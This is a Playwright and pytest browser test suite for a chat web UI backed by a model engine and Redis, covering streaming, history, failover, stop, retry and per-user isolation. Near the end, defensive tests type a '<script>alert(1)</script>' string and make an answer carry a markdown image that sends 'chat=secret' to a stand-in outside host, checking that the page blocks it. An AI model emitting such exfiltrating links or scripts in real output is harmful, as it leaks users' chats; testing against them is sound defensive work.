"""The page in a real headless Chromium: one engine, one Redis, two replicas."""

from __future__ import annotations

import json
import shutil
import signal
import subprocess
import time
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("playwright")
pytest.importorskip("gradio")

from playwright.sync_api import Browser, BrowserContext, Route

from tests.support.chat_page import CHROMIUM, COOKIE, ChatPage
from tests.support.chat_processes import BLUE, ORANGE, Engine, Redis, WebUi

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(
        not Path(CHROMIUM).exists() or shutil.which("redis-server") is None, reason="needs chromium and redis-server"
    ),
]


def stored(redis: Redis, user_id: str) -> tuple[dict[str, Any], int]:
    """What Redis has under the manual's key, and its time to live in seconds."""

    def ask(*words: str) -> str:
        command = ["redis-cli", "-p", str(redis.port), *words]
        return subprocess.run(command, capture_output=True, text=True, check=True).stdout.strip()

    return json.loads(ask("--raw", "GET", f"chat:{user_id}") or "{}"), int(ask("TTL", f"chat:{user_id}"))


def test_a_question_with_an_image_is_answered_word_by_word(page: ChatPage, engine: Engine) -> None:
    engine.faults(token_delay=0.1)
    page.ask("What colour is this?", [ORANGE])
    seen = page.growing_answer(1)
    assert len([text for text in seen if text != "…"]) >= 4, seen
    assert "image 1 is 640x480, mean colour orange" in seen[-1]
    assert '4 word(s): "What colour is this?"' in seen[-1]
    assert page.images() == 1
    assert page.status() == ""


def test_a_reload_brings_the_history_back_and_a_follow_up_sees_it(page: ChatPage) -> None:
    page.ask("First", [BLUE])
    first = page.answer()
    page.open()
    assert page.answer() == first
    assert page.images() == 1
    page.ask("Second")
    assert "They had 1 image(s): 320x200 blue" in page.answer(number=2)


def test_another_replica_shows_the_same_and_a_lost_one_costs_nothing(
    context: BrowserContext, engine: Engine, redis: Redis, replicas: tuple[WebUi, WebUi]
) -> None:
    with WebUi(engine, redis.port) as doomed:
        doomed.wait_ready()
        page = ChatPage(context, doomed.url)
        page.open()
        page.ask("Before the loss", [ORANGE])
        answer = page.answer()
        doomed.kill()
    # Cookies do not know ports, so the same browser is the same user at the other replica, as behind a balancer.
    other = ChatPage(context, replicas[1].url)
    other.open()
    assert other.user_id() == page.user_id()
    assert other.answer() == answer
    assert other.images() == 1
    other.ask("After it")
    assert "They had 1 image(s): 160x120 orange" in other.answer(number=2), "the thumbnail is what is left of the image"


def test_redis_has_the_manuals_key_with_its_time_to_live(page: ChatPage, redis: Redis) -> None:
    page.ask("Keep this", [ORANGE])
    page.answer()
    history, ttl = stored(redis, page.user_id())
    assert 3590 <= ttl <= 3600
    assert len(json.dumps(history)) < 32_000, "the image itself is not kept"
    (conversation,) = history["conversations"]
    turns = conversation["turns"]
    assert [(turn["question"], turn["state"], len(turn["images"])) for turn in turns] == [("Keep this", "done", 1)]
    subprocess.run(["redis-cli", "-p", str(redis.port), "EXPIRE", f"chat:{page.user_id()}", "50"], check=True)
    page.open()
    page.answer()
    assert stored(redis, page.user_id())[1] > 3590, "looking at a chat renews it"


def test_two_browsers_do_not_see_each_other(page: ChatPage, chromium: Browser, replicas: tuple[WebUi, WebUi]) -> None:
    page.ask("Mine")
    page.answer()
    stranger_context = chromium.new_context()
    stranger = ChatPage(stranger_context, replicas[0].url)
    stranger.open()
    time.sleep(1)
    assert stranger.questions() == []
    assert stranger.user_id() != page.user_id()
    cookie = next(c for c in stranger_context.cookies() if c.get("name") == COOKIE)
    assert cookie["httpOnly"]
    assert cookie["sameSite"] == "Lax"
    stranger_context.close()


def test_a_long_chat_never_shows_the_engine_more_images_than_it_takes(page: ChatPage) -> None:
    page.ask("Three", [ORANGE, ORANGE, BLUE])
    page.answer()
    page.ask("Three more", [BLUE, BLUE, ORANGE])
    answer = page.answer(number=2)
    assert "You sent 3 image(s)" in answer
    assert "They had 1 image(s)" in answer
    assert page.status() == ""


def test_a_replica_that_has_to_go_saves_what_it_has(
    context: BrowserContext, redis: Redis, replicas: tuple[WebUi, WebUi]
) -> None:
    with Engine(time_scale=40) as slow, WebUi(slow, redis.port, ("--drain-timeout", "1")) as leaving:
        leaving.wait_ready()
        page = ChatPage(context, leaving.url)
        page.open()
        page.ask(" ".join(f"word{n}" for n in range(40)))
        while "word1" not in "".join(page.answers()):
            time.sleep(0.05)
        leaving.signal(signal.SIGTERM)
        leaving.wait(20)
    other = ChatPage(context, replicas[0].url)
    other.open()
    answer = other.answer()
    assert answer.endswith("stopped")
    assert "word0 word1" in answer


def test_stop_ends_the_answer_and_the_work_at_the_engine(page: ChatPage, engine: Engine) -> None:
    engine.faults(token_delay=0.5)
    page.ask(" ".join(f"word{n}" for n in range(40)))
    while "stand-in" not in "".join(page.answers()):
        time.sleep(0.05)
    page.stop()
    answer = page.answer(within=10)
    assert answer.endswith("stopped")
    assert "word39" not in answer
    assert engine.metric("vllm:num_requests_running") == 0
    page.open()
    assert page.answer() == answer


def test_stop_works_before_the_first_word(page: ChatPage, engine: Engine) -> None:
    engine.faults(hang=True)
    page.ask("Anyone there?")
    page.tab.wait_for_selector("#box button.stop-button")
    page.stop()
    assert page.answer(within=5) == "stopped"


def test_retry_asks_the_last_question_again(page: ChatPage, engine: Engine) -> None:
    engine.faults(error_rate=1)
    page.ask("Try this", [BLUE])
    assert "press Retry" in page.answer()
    assert "the engine failed" in page.status()
    engine.faults()
    page.retry()
    page.tab.wait_for_selector("text=320x200")
    assert "mean colour blue" in page.answer()
    assert page.questions()[-1] == "Try this"
    assert len(page.answers()) == 1


def test_an_answer_that_broke_off_says_so(page: ChatPage, engine: Engine) -> None:
    engine.faults(drop_after_tokens=5)
    page.ask("Cut me")
    assert "press Retry" in page.answer()
    page.tab.wait_for_selector(
        "#status:has-text('the answer broke off')", timeout=10_000
    )  # it may come after the answer


def test_clear_forgets_here_and_in_redis(page: ChatPage, redis: Redis) -> None:
    page.ask("Forget me")
    page.answer()
    page.clear()
    assert stored(redis, page.user_id())[0]["conversations"] == []
    page.open()
    time.sleep(0.5)
    assert page.questions() == []


def test_a_reload_in_the_middle_finds_the_answer_growing(page: ChatPage, engine: Engine) -> None:
    engine.faults(token_delay=0.5)
    page.ask(" ".join(f"word{n}" for n in range(40)))
    while "stand-in" not in "".join(page.answers()):
        time.sleep(0.05)
    page.open()
    page.tab.wait_for_selector("#box button.stop-button")
    assert "stand-in" in page.answers()[0]
    assert "word39" not in page.answers()[0]
    engine.faults()
    assert "word39" in page.answer()


def test_what_was_typed_is_shown_as_typed_and_nothing_is_fetched(page: ChatPage) -> None:
    typed = "a <b>bold</b> *star* & &amp; _under_ <script>alert(1)</script>\n# no heading\n1. no list\n  two blanks"
    page.ask(typed)
    page.answer()
    assert page.questions() == [typed.replace("  two", "\u00a0\u00a0two")]


def test_an_answer_cannot_carry_the_chat_out(context: BrowserContext, replicas: tuple[WebUi, WebUi]) -> None:
    """The stand-in repeats the question, so this answer holds a picture of another host: the browser must not load it."""
    page = ChatPage(context, replicas[0].url)
    page.open()
    served: list[str] = []

    def serve(route: Route) -> None:
        served.append(route.request.url)
        route.abort()

    context.route("http://outside.invalid/**", serve)
    blocked: list[str] = []
    page.tab.on("console", lambda said: blocked.append(said.text) if "Content Security Policy" in said.text else None)
    page.ask("say ![x](http://outside.invalid/?chat=secret)")
    page.answer()
    time.sleep(0.5)
    assert served == []
    assert any("outside.invalid" in text for text in blocked)


def test_refusals_are_told_and_keep_what_was_typed(page: ChatPage) -> None:
    page.ask("Too many", [BLUE] * 5)
    assert "at most 4" in page.warning()
    assert page.answers() == []
    assert page.tab.input_value("#box textarea") == "Too many"


def test_a_redis_outage_costs_the_history_only(context: BrowserContext, engine: Engine) -> None:
    with Redis() as own, WebUi(engine, own.port) as webui:
        webui.wait_ready()
        page = ChatPage(context, webui.url)
        page.open()
        page.ask("Saved")
        page.answer()
        own.kill()
        page.ask("During the outage")
        assert "Before this came 2 message(s)" in page.answer(number=2)
        assert "cannot be saved" in page.status()
        page.open()
        page.answer(number=2)
        assert page.questions() == ["Saved", "During the outage"]
        assert webui.metric("webui_history_errors_total") > 0
        with Redis(port=own.port) as back:
            deadline = time.monotonic() + 20
            while "cannot be saved" in page.status() and time.monotonic() < deadline:
                time.sleep(1)
                page.open()
                page.answer(number=2)
            assert page.status() == ""
            history, _ = stored(back, page.user_id())
            assert [len(one["turns"]) for one in history["conversations"]] == [2]
